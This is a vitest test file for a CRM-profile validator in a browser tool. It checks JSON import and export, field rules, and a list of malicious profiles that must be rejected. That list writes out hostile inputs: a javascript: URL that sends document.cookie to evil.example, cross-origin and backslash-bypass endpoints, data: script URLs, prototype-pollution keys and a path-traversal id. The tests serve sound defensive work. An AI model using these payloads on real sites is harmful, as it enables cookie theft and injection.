import { describe, expect, it } from 'vitest';
import { CUSTOM_CRM_ID_PREFIX, CustomCrmProfile, exportProfiles, importProfiles, validateProfile, type CustomCrmProfileInput } from '../../../../lib/crm/custom/profile';
import { saoProfile, serverProfile, serverProfileInput } from './fixtures';

const endpointProfile: CustomCrmProfileInput = {
  id: 'json-crm',
  name: 'JSON CRM',
  urlPattern: 'https://app.jsoncrm.io/*',
  recordUrl: { kind: 'hash', pattern: '#/deal/:id' },
  endpoint: { url: '/api/v2/deals/:id?expand=contacts' },
  fields: {
    name: { locator: { by: 'json', path: 'data.deal.title' }, parser: { kind: 'text' } },
    stage: { locator: { by: 'json', path: 'data.deal.stage' }, parser: { kind: 'enum', map: [{ text: 'won', category: 'won' }], otherwise: 'open' } },
  },
  stakeholders: { region: { by: 'json', path: 'data.contacts' }, name: { key: 'name' }, role: { key: 'role' } },
};

function issues(value: unknown): string[] {
  const r = validateProfile(value);
  return r.ok ? [] : r.issues.map((i) => `${i.path}: ${i.message}`);
}

describe('CustomCrmProfile', () => {
  it('exports the adapter id prefix', () => {
    expect(CUSTOM_CRM_ID_PREFIX).toBe('custom:');
  });

  it('accepts the fixtures’ page profiles and a JSON-endpoint profile, with defaults', () => {
    expect(serverProfile.version).toBe(1);
    expect(serverProfile.activities?.done).toEqual({ by: 'date' });
    expect(serverProfile.stakeholders?.defaultRoleNames).toBe(true);
    expect(saoProfile.recordUrl).toEqual({ kind: 'hash', pattern: '#*/model/sale.opportunity/:id' });
    expect(issues(endpointProfile)).toEqual([]);
  });

  it('round-trips through JSON export and import', () => {
    const text = exportProfiles([serverProfile, saoProfile]);
    expect(JSON.parse(text)).toMatchObject({ format: 'deal-coach/custom-crm', version: 1 });
    const back = importProfiles(text);
    expect(back).toEqual({ ok: true, value: [serverProfile, saoProfile] });
    // A single profile, or a bare array, imports too.
    expect(importProfiles(JSON.stringify(serverProfileInput))).toEqual({ ok: true, value: [serverProfile] });
    expect(importProfiles(JSON.stringify([saoProfile]))).toEqual({ ok: true, value: [saoProfile] });
  });

  it('refuses broken files with reasons, all or nothing', () => {
    expect(importProfiles('{not json')).toEqual({ ok: false, issues: [{ path: '', message: 'the file is not valid JSON' }] });
    const twice = importProfiles(JSON.stringify([serverProfile, serverProfile]));
    expect(twice.ok).toBe(false);
    if (!twice.ok) expect(twice.issues).toContainEqual({ path: '1.id', message: 'two profiles share the id "example-crm"' });
    const newer = importProfiles(JSON.stringify({ format: 'deal-coach/custom-crm', version: 2, profiles: [] }));
    expect(newer.ok).toBe(false);
  });

  it('requires a name and a stage, and a parser that fits each field', () => {
    const { name: _name, ...fields } = serverProfileInput.fields;
    expect(issues({ ...serverProfileInput, fields })).toContain('fields.name: Deal name must be mapped: without it there is no deal to coach');
    expect(
      issues({ ...serverProfileInput, fields: { ...serverProfileInput.fields, amount: { locator: { by: 'label', text: 'Amount' }, parser: { kind: 'date', format: 'M/D/YYYY' } } } }),
    ).toContain('fields.amount.parser: Amount is read as money or number, not date');
  });

  it('keeps page locators and JSON paths apart', () => {
    expect(issues({ ...endpointProfile, endpoint: undefined })).toEqual(
      expect.arrayContaining(['fields.name.locator: a JSON path needs the JSON endpoint to be set', 'stakeholders.name: a JSON key needs the JSON endpoint to be set; use a header, a position or a CSS selector']),
    );
    expect(issues({ ...serverProfileInput, endpoint: { url: '/api/deals/:id' } })).toContain('fields.name.locator: this profile reads a JSON endpoint: give a JSON path here, not a place on the page');
  });

  describe('refuses malicious profiles', () => {
    const cases: Array<[string, unknown, string]> = [
      ['a javascript: URL pattern', { ...serverProfileInput, urlPattern: 'javascript:alert(document.cookie)' }, 'urlPattern'],
      ['a pattern for every site', { ...serverProfileInput, urlPattern: '<all_urls>' }, 'urlPattern'],
      ['a wildcard host', { ...serverProfileInput, urlPattern: '*://*/*' }, 'urlPattern'],
      ['a javascript: endpoint', { ...endpointProfile, endpoint: { url: 'javascript:fetch("https://evil.example/?"+document.cookie)//:id' } }, 'endpoint.url'],
      ['a cross-origin endpoint', { ...endpointProfile, endpoint: { url: 'https://evil.example/steal/:id' } }, 'endpoint.url'],
      ['a protocol-relative endpoint', { ...endpointProfile, endpoint: { url: '//evil.example/:id' } }, 'endpoint.url'],
      ['a backslash endpoint (browsers read /\\ as //)', { ...endpointProfile, endpoint: { url: '/\\evil.example/:id' } }, 'endpoint.url'],
      ['a data: endpoint', { ...endpointProfile, endpoint: { url: 'data:text/html,<script>alert(1)</script>:id' } }, 'endpoint.url'],
      ['an endpoint without :id', { ...endpointProfile, endpoint: { url: '/api/deals' } }, 'endpoint.url'],
      ['unknown keys (a "script" to run)', { ...serverProfileInput, script: 'alert(1)' }, ''],
      ['unknown keys in a locator', { ...serverProfileInput, fields: { ...serverProfileInput.fields, name: { locator: { by: 'css', selector: 'h1', onload: 'x' }, parser: { kind: 'text' } } } }, 'fields.name.locator'],
      ['a script URL in a selector', { ...serverProfileInput, fields: { ...serverProfileInput.fields, name: { locator: { by: 'css', selector: 'a[href="javascript:alert(1)"]' }, parser: { kind: 'text' } } } }, 'fields.name.locator.selector'],
      ['a prototype-polluting extra field', { ...serverProfileInput, extraFields: [{ key: '__proto__', source: { locator: { by: 'label', text: 'x' }, parser: { kind: 'text' } } }] }, 'extraFields.0.key'],
      ['a prototype-polluting JSON path', { ...endpointProfile, fields: { ...endpointProfile.fields, name: { locator: { by: 'json', path: 'constructor.prototype' }, parser: { kind: 'text' } } } }, 'fields.name.locator.path'],
      ['an id that is not a slug', { ...serverProfileInput, id: '../../etc' }, 'id'],
      ['control characters in the name', { ...serverProfileInput, name: 'Acme\u0000' }, 'name'],
    ];
    for (const [what, value, path] of cases) {
      it(what, () => {
        const r = validateProfile(value);
        expect(r.ok).toBe(false);
        if (!r.ok) expect(r.issues.map((i) => i.path)).toContain(path);
      });
    }
  });

  it('parses the stored form again to the same value (settings round trip)', () => {
    expect(CustomCrmProfile.parse(JSON.parse(JSON.stringify(saoProfile)))).toEqual(saoProfile);
  });
});
